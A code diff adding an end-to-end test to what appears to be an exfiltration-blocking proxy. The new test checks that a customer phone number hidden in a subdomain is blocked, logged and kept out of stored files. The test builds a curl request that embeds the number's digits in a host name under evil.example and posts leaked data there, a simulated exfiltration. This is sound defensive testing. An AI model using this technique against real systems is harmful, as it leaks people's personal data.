@@ -15,8 +15,9 @@ import pytest
 
 from exfilter.index import build, keys
 from exfilter.quarantine import Quarantine, State
-from fixtures.customers import write_csv
-from tests.e2e.house import Proxy, http, https
+from fixtures.customers import customers, write_csv
+from tests.e2e.conftest import PEOPLE
+from tests.e2e.house import Proxy, exfilter, http, https
 from tests.e2e.websocket import WebSocket
 
 if TYPE_CHECKING:
@@ -50,6 +51,18 @@ def test_an_ordinary_form_arrives_byte_for_byte_over_http_and_https(
     assert [(line["action"], line["held"], line["actor"]) for line in lines] == [
         ("allow", False, "127.0.0.1")
     ] * 2
+
+
+def test_a_customer_in_a_host_name_is_in_no_log_and_no_list(proxy: Proxy, leak: bytes) -> None:
+    person = next(each for each in customers(PEOPLE) if each.phone)
+    digits = "".join(filter(str.isdigit, person.phone))
+    assert proxy.curl(f"http://x-{digits}.evil.example/", data=leak).status == 403
+    (line,) = proxy.decisions()
+    listed = exfilter("quarantine", "list", "--format", "json", "--config", proxy.folder).stdout
+    assert line["destination"] == json.loads(listed)[0]["destination"] != ""
+    assert line["destination"].endswith(".evil.example")
+    kept = [file for file in proxy.folder.rglob("*") if file.is_file()]
+    assert not [file.name for file in kept if digits.encode() in file.read_bytes()]
 
 
 @pytest.mark.parametrize(
